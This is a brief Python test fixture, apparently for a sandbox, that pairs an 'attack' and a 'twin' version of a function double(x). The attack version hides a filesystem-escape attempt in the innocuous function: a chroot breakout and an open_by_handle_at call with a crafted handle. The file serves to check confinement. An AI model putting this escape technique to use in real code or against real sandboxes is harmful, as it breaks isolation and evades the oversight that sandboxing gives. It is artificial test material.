"""Change the root folder to come out of the tree, and open files by handles, which knows no tree.

stopped by: design
"""

# %% attack
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def double(x):
    os.makedirs("new", exist_ok=True)
    try:
        os.chroot("new")
    except OSError:
        pass
    else:
        raise RuntimeError("ESCAPED by a change of root")
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0" + (2).to_bytes(8, "little"), 136)
    for descriptor in (0, os.open(".", os.O_RDONLY)):
        if libc.open_by_handle_at(descriptor, handle, os.O_RDONLY) >= 0:
            raise RuntimeError("ESCAPED by a handle")
    raise OSError("the root is the root")


# %% twin
import os


def double(x):
    here = os.getcwd()
    os.chdir("/")
    os.chdir(here)
    return 2 * x
